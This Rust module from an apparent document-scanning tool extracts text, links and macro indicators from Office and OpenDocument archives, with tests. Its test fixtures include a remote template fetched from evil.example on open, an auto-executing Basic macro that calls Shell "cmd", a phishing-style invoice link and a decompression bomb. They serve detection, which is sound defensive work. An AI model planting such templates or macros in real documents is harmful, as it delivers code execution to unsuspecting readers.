//! Office Open XML (`.docx`, `.xlsx`, `.pptx` and their macro-enabled kin) and OpenDocument
//! files: zip archives of XML. Their text members give the text, their relationship files
//! the external links (hyperlinks, and remote templates that fetch code on open), and a
//! `vbaProject.bin`, an Excel macro sheet or an OpenDocument Basic library the macros.

use super::ole::{self, Macros};
use super::{Extracted, Limits, xml_text};
use std::io::{Cursor, Read, Seek};

/// Members looked at, at most (a document has dozens; a zip of 65,535 empty names is a way
/// to make a reader spin).
const MAX_MEMBERS: usize = 2000;

/// What a member of the archive is to us.
#[derive(Debug, PartialEq)]
enum Member {
    Text,
    Relations,
    VbaProject,
    MacroSheet,
    Basic,
    ContentTypes,
    Object,
    RtfObject,
    Other,
}

fn member(name: &str) -> Member {
    let n = name.to_ascii_lowercase();
    let numbered = |prefix: &str| {
        n.strip_prefix(prefix)
            .and_then(|r| r.strip_suffix(".xml"))
            .is_some_and(|d| d.chars().all(|c| c.is_ascii_digit()))
    };
    if n.ends_with("vbaproject.bin") {
        Member::VbaProject
    } else if n.starts_with("xl/macrosheets/") {
        Member::MacroSheet
    } else if n.starts_with("basic/")
        && n.ends_with(".xml")
        && !n.ends_with("/script-lb.xml")
        && n != "basic/script-lc.xml"
    {
        // OpenDocument Basic: a module per file; `script-lb.xml` only lists a library's
        // modules, and `basic/script-lc.xml` (written by many saves) lists the libraries.
        Member::Basic
    } else if n == "[content_types].xml" {
        Member::ContentTypes
    } else if n.starts_with("xl/embeddings/") || n.starts_with("word/embeddings/") {
        Member::Object
    } else if n.starts_with("word/") && n.ends_with(".rtf") {
        Member::RtfObject
    } else if n.ends_with(".rels") {
        Member::Relations
    } else if n == "word/document.xml"
        || n == "word/footnotes.xml"
        || n == "word/endnotes.xml"
        || numbered("word/header")
        || numbered("word/footer")
        || n == "xl/sharedstrings.xml"
        || numbered("ppt/slides/slide")
        || n == "content.xml"
    {
        Member::Text
    } else {
        Member::Other
    }
}

/// The kind of Office zip `archive` is, or `None` for another zip.
fn kind_of<R: Read + Seek>(archive: &mut zip::ZipArchive<R>) -> Option<&'static str> {
    if archive.index_for_name("[Content_Types].xml").is_some() {
        return Some("ooxml");
    }
    let mut mimetype = String::new();
    archive
        .by_name("mimetype")
        .ok()?
        .take(100)
        .read_to_string(&mut mimetype)
        .ok()?;
    mimetype
        .starts_with("application/vnd.oasis.opendocument")
        .then_some("odf")
}

/// The text, links and macros of an Office zip, or `None` when `bytes` is another zip.
pub fn extract(bytes: &[u8], limits: &Limits) -> Option<Extracted> {
    read(Cursor::new(bytes), limits, true)
}

/// Only the macros of an Office zip (for the decoder's types), or `None` for another zip;
/// read from `src` in place (a part spooled to a file is not copied into memory).
pub fn macros<R: Read + Seek>(src: R, limits: &Limits) -> Option<Macros> {
    read(src, limits, false)?.macros
}

fn read<R: Read + Seek>(src: R, limits: &Limits, text: bool) -> Option<Extracted> {
    let mut archive = zip::ZipArchive::new(src).ok()?;
    let kind = kind_of(&mut archive)?;
    let mut out = Extracted {
        kind,
        ..Extracted::default()
    };
    let mut macros = Macros::default();
    let mut budget = limits.max_inflated as u64;
    for i in 0..archive.len().min(MAX_MEMBERS) {
        let Ok(mut entry) = archive.by_index(i) else {
            continue;
        };
        let Ok(name) = entry.name() else { continue };
        let what = member(&name);
        if what == Member::Other || (what == Member::Text && !text) {
            continue;
        }
        match what {
            Member::MacroSheet => macros.xlm = true,
            Member::Object => macros.object = true,
            Member::RtfObject => macros.rtf_object = true,
            _ => {}
        }
        if matches!(
            what,
            Member::MacroSheet | Member::Object | Member::RtfObject
        ) {
            continue;
        }
        let mut data = Vec::new();
        let read = (&mut entry).take(budget + 1).read_to_end(&mut data);
        if read.is_err() || data.len() as u64 > budget {
            out.truncated = true;
            budget = budget.saturating_sub(data.len() as u64);
            if budget == 0 {
                break;
            }
            continue;
        }
        budget -= data.len() as u64;
        take_member(what, &data, limits, &mut out, &mut macros);
    }
    out.uris.retain(|u| super::is_link(u));
    out.uris.dedup();
    out.macros = Some(macros);
    Some(out)
}

/// Adds what one member read whole holds to the document's text, links and macros.
fn take_member(
    what: Member,
    data: &[u8],
    limits: &Limits,
    out: &mut Extracted,
    macros: &mut Macros,
) {
    match what {
        Member::Text => {
            if !xml_text::append(data, &mut out.text, limits.max_text) {
                out.truncated = true;
            }
            if out.kind == "odf" {
                out.uris.extend(attribute_values(data, "xlink:href", None));
            }
            if !out.text.ends_with('\n') && !out.text.is_empty() {
                out.text.push('\n');
            }
        }
        Member::Relations => {
            for (target, hyperlink) in external_relations(data) {
                if !hyperlink {
                    macros.external.push(target.clone());
                }
                // Office's `mhtml:` handler prefix; the link is what follows it.
                let stripped = target.get(..6).filter(|p| p.eq_ignore_ascii_case("mhtml:"));
                out.uris.push(match stripped {
                    Some(_) => target[6..].to_string(),
                    None => target,
                });
            }
        }
        Member::ContentTypes => {
            let types = String::from_utf8_lossy(data).to_ascii_lowercase();
            macros.vba |= types.contains("application/vnd.ms-office.vbaproject");
            macros.xlm |= types.contains("macrosheet");
        }
        Member::VbaProject => macros.merge(&ole::macros_of(data, limits)),
        Member::Basic => {
            macros.vba = true;
            macros.scan_source(&String::from_utf8_lossy(data));
        }
        Member::MacroSheet | Member::Object | Member::RtfObject | Member::Other => {}
    }
}

/// The external targets of a relationship file, each with whether it is a hyperlink (which
/// the reader may click) rather than something Office fetches when the document opens (a
/// remote template, a linked object or frame: how documents without macros fetch code).
fn external_relations(xml: &[u8]) -> Vec<(String, bool)> {
    let xml = String::from_utf8_lossy(xml);
    xml.split("<Relationship ")
        .skip(1)
        .filter(|e| e.contains(r#"TargetMode="External""#))
        .filter_map(|e| {
            let element = e.split('>').next().unwrap_or(e);
            let target = attribute_values(element.as_bytes(), "Target", None).pop()?;
            let kind = attribute_values(element.as_bytes(), "Type", None)
                .pop()
                .unwrap_or_default();
            Some((target, kind.ends_with("/hyperlink")))
        })
        .collect()
}

/// The values of attribute `name` in the elements of `xml` (those that also contain `with`,
/// when given), entities decoded.
fn attribute_values(xml: &[u8], name: &str, with: Option<&str>) -> Vec<String> {
    let xml = String::from_utf8_lossy(xml);
    let needle = format!("{name}=\"");
    let mut found = Vec::new();
    for element in xml.split('<') {
        if with.is_some_and(|w| !element.contains(w)) {
            continue;
        }
        let mut rest = element;
        while let Some(at) = rest.find(&needle) {
            let preceded_by_name = rest[..at]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_alphanumeric() || c == ':');
            rest = &rest[at + needle.len()..];
            let value = rest.split('"').next().unwrap_or("");
            if !preceded_by_name {
                found.push(xml_text::decode_entities(value));
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
        crate::extract::fixtures::zip_of(members).unwrap()
    }

    const RELS: &[u8] = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://pay-now.example/login?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId2" Type="styles" Target="styles.xml"/></Relationships>"#;

    #[test]
    fn docx_text_and_links() {
        let doc = zip_of(&[
            ("[Content_Types].xml", b"<Types/>"),
            (
                "word/document.xml",
                b"<w:document><w:p><w:t>Your invoice is overdue</w:t></w:p></w:document>",
            ),
            ("word/_rels/document.xml.rels", RELS),
        ]);
        let got = extract(&doc, &Limits::default()).unwrap();
        assert_eq!(got.kind, "ooxml");
        assert_eq!(got.text, "Your invoice is overdue\n");
        assert_eq!(got.uris, vec!["https://pay-now.example/login?a=1&b=2"]);
        assert_eq!(got.macros, Some(Macros::default()));
    }

    #[test]
    fn remote_templates_and_macro_content_types() {
        let rels = br#"<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
        let types = br#"<Types><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
        let doc = zip_of(&[
            ("[Content_Types].xml", types),
            ("word/_rels/settings.xml.rels", rels),
            ("xl/embeddings/oleObject1.bin", b"x"),
        ]);
        let m = extract(&doc, &Limits::default()).unwrap().macros.unwrap();
        assert_eq!(m.external, vec!["https://evil.example/t.dotm"]);
        assert!(m.vba && m.object && !m.xlm);
    }

    #[test]
    fn odf_text_links_and_basic() {
        let doc = zip_of(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                br#"<office:text><text:p>Hello <text:a xlink:href="http://odf.example/x">here</text:a></text:p></office:text>"#,
            ),
            ("Basic/Standard/Module1.xml", b"Sub Document_Open()\nShell \"cmd\"\nEnd Sub"),
            ("Basic/script-lc.xml", b"<library:libraries/>"),
            ("Basic/Standard/script-lb.xml", b"<library:library/>"),
        ]);
        let got = extract(&doc, &Limits::default()).unwrap();
        assert_eq!(got.kind, "odf");
        assert_eq!(got.text, "Hello here\n");
        assert_eq!(got.uris, vec!["http://odf.example/x"]);
        let m = got.macros.unwrap();
        assert!(m.vba && m.auto_exec && m.suspicious);
        // A library list alone is no macro.
        let lists_only = zip_of(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("Basic/script-lc.xml", b"<library:libraries/>"),
            ("Basic/Standard/script-lb.xml", b"<library:library/>"),
        ]);
        assert!(
            !extract(&lists_only, &Limits::default())
                .unwrap()
                .macros
                .unwrap()
                .any()
        );
    }

    #[test]
    fn plain_zip_is_not_ours_and_macro_sheets_count() {
        assert!(extract(&zip_of(&[("a.txt", b"x")]), &Limits::default()).is_none());
        let xlsm = zip_of(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        ]);
        assert!(
            extract(&xlsm, &Limits::default())
                .unwrap()
                .macros
                .unwrap()
                .xlm
        );
    }

    #[test]
    fn a_deflate_bomb_stops_at_the_budget() {
        let big = vec![b'a'; 3 << 20];
        let doc = zip_of(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", &big),
        ]);
        let limits = Limits {
            max_inflated: 1 << 20,
            ..Limits::default()
        };
        let got = extract(&doc, &limits).unwrap();
        assert!(got.truncated);
        assert!(got.text.is_empty());
    }
}
